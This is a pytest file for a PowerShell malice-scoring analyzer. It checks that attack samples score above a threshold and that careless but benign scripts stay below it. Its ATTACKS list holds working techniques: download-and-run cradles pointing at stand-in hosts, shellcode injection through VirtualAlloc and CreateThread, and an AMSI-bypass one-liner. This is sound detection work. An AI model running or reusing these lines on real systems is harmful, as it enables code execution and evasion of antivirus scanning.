"""Malice, hygiene and security: what makes them, in which direction, and that the reasons add up to the number."""

from __future__ import annotations

import math
from pathlib import Path

import pytest

from pipeline.analysis.context import Context
from pipeline.analysis.detecting.catalog import detection_names
from pipeline.analysis.detecting.conduct import DEEDS
from pipeline.analysis.detecting.engine import detected
from pipeline.analysis.detecting.hiding import WORDS
from pipeline.analysis.finding import SECURITY_SEVERITIES
from pipeline.analysis.judgement import ATTACK, Score, malice_of, scores, weights
from pipeline.analysis.signals import COMBINATIONS, MOST_OF_COMMON, is_common, signals, total
from pipeline.powershell.script import parse

EXAMPLES = Path(__file__).parents[3] / "examples"

ATTACKS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
    "$c=New-Object Net.WebClient;$c.DownloadFile('http://x.example/a.exe',\"$env:TEMP\\a.exe\");Start-Process \"$env:TEMP\\a.exe\"",
    "function Invoke-Mimikatz { param($Command) }",
    "$b=[Convert]::FromBase64String($x);$m=[Win32]::VirtualAlloc(0,$b.Length,0x3000,0x40);[Win32]::CreateThread(0,0,$m,0,0,0)"
    "\nAdd-Type '[DllImport(\"kernel32.dll\")] VirtualAlloc CreateThread' -Name Win32",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
)
CARELESS = (
    "$password = 'Welcome1'\nConvertTo-SecureString $password -AsPlainText -Force",
    'param($Name)\nInvoke-Expression "Get-$Name"',
    "Invoke-WebRequest https://example.org/setup.exe -OutFile setup.exe\nStart-Process ./setup.exe -Wait",
    "Register-ScheduledTask -TaskName Backup -Action (New-ScheduledTaskAction -Execute 'C:\\Program Files\\Backup\\b.exe')",
    "Remove-Item C:\\Logs -Recurse -Force",
)


def judged(text: str) -> dict[str, Score]:
    return {score.name: score for score in Context(parse(text)).shared(scores)}


def malice(text: str) -> int:
    value = judged(text)["malice"].value
    assert value is not None
    return value


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks(text: str) -> None:
    assert malice(text) >= ATTACK


@pytest.mark.parametrize("text", CARELESS)
def test_carelessness_is_no_attack(text: str) -> None:
    assert malice(text) < ATTACK


@pytest.mark.parametrize("example", sorted(EXAMPLES.glob("*.ps1")), ids=lambda path: path.name)
def test_examples(example: Path) -> None:
    assert (malice(example.read_text(encoding="utf-8")) >= ATTACK) == (example.stem == "looks-like-an-attack")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("other", CARELESS)
def test_nothing_ordinary_makes_an_attack_less_of_one(attack: str, other: str) -> None:
    assert malice(f"{attack}\n{other}") >= ATTACK


def test_reasons_make_the_number() -> None:
    for text in (*ATTACKS, *CARELESS):
        for name, score in judged(text).items():
            points = sum(reason.points for reason in score.reasons)
            assert score.value == (malice_of(points) if name == "malice" else max(0, 100 - points))


def test_what_is_common_counts_for_little() -> None:
    worth = {"PS011:High": 20.0, "PS013:High": 20.0, "deed:recon": 5.0}
    assert total(worth) == MOST_OF_COMMON
    assert total(worth | {"PS012:Critical": 40.0}) == MOST_OF_COMMON + 40
    assert weights().needed > MOST_OF_COMMON


def test_weights_are_of_signals_and_never_speak_for_innocence() -> None:
    ids = {name.partition("_")[0] for name in detection_names()}
    known = {f"{rule}:{severity}" for rule in ids for severity in SECURITY_SEVERITIES}
    known |= {f"deed:{sign}" for sign in DEEDS} | {f"hidden:{sign}" for sign in WORDS} | {name for name, *_ in COMBINATIONS}
    known |= {"several", "many", "layers", "layers:2", "hot_layer", "network_code"}
    points = weights().points
    assert {name for name in points if not name.startswith("technique:")} <= known
    assert min(points.values()) >= 0


def test_half_is_reached_at_what_is_needed() -> None:
    assert malice_of(weights().needed) == ATTACK
    assert malice_of(weights().needed + 10) == round(100 / (1 + math.exp(-1)))


def test_critical_is_never_common() -> None:
    assert not is_common("PS026:Critical")
    assert is_common("PS026:High")
    assert not is_common("PS044:High")


def test_each_signal_once_with_a_sentence() -> None:
    found = signals(Context(parse("\n".join(ATTACKS))).shared(detected))
    assert len({signal.name for signal in found}) == len(found)
    assert all(signal.text.endswith((".", "]")) and signal.points >= 0 for signal in found)


def test_nothing_to_judge() -> None:
    assert judged("")["malice"] == Score("malice", None, unknown="The script holds nothing that could be judged.")
